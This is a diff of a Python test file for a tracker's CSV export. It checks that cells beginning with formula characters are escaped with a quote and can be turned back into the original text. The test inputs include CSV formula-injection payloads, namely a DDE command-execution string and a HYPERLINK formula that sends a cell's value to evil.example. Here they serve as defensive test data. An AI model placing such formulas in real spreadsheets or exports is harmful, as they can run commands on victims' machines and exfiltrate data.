@@ -16,8 +16,9 @@ import pytest
 
 from dsr_tracker.core.editing import Pen, Target, add_note, rate
 from dsr_tracker.core.errors import UnknownNameError
+from dsr_tracker.core.formulas import as_typed, harmless
 from dsr_tracker.core.scales import IMPLEMENTATION, TORONTO
-from dsr_tracker.reports.csv import COLUMNS, harmless
+from dsr_tracker.reports.csv import COLUMNS
 from dsr_tracker.reports.json import SCHEMA
 from dsr_tracker.reports.report import Report, Scope, build_report
 from dsr_tracker.reports.writing import FORMATS, render
@@ -68,15 +69,17 @@ def test_csv_has_a_row_for_each_cell(report: Report) -> None:
     [
         "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "  \t@x", "＝1", "=cmd|' /C calc'!A0",
         '=HYPERLINK("http://evil.example?x="&A1,"click")', "\u00a0=1", "\u3000=1",
+        "'=1", "'", "''", "\ufeff=1", "\u200b+1",
     ],
 )  # fmt: skip
-def test_formulas_are_disarmed(text: str) -> None:
+def test_formulas_are_disarmed_and_found_again(text: str) -> None:
     assert harmless(text) == f"'{text}"
+    assert as_typed(harmless(text)) == text
 
 
-@pytest.mark.parametrize("text", ["", "a=1", "1-2", "'=1", "中文", "#REF", "x\n=1"])
+@pytest.mark.parametrize("text", ["", "a=1", "1-2", "中文", "#REF", "x\n=1", " x", "\ufeffa", "(1)", "’a’"])
 def test_other_texts_stay_as_they_are(text: str) -> None:
-    assert harmless(text) == text
+    assert harmless(text) == as_typed(text) == text
 
 
 def test_no_cell_of_a_csv_starts_a_formula_and_numbers_stay_numbers(tracker: Store) -> None:
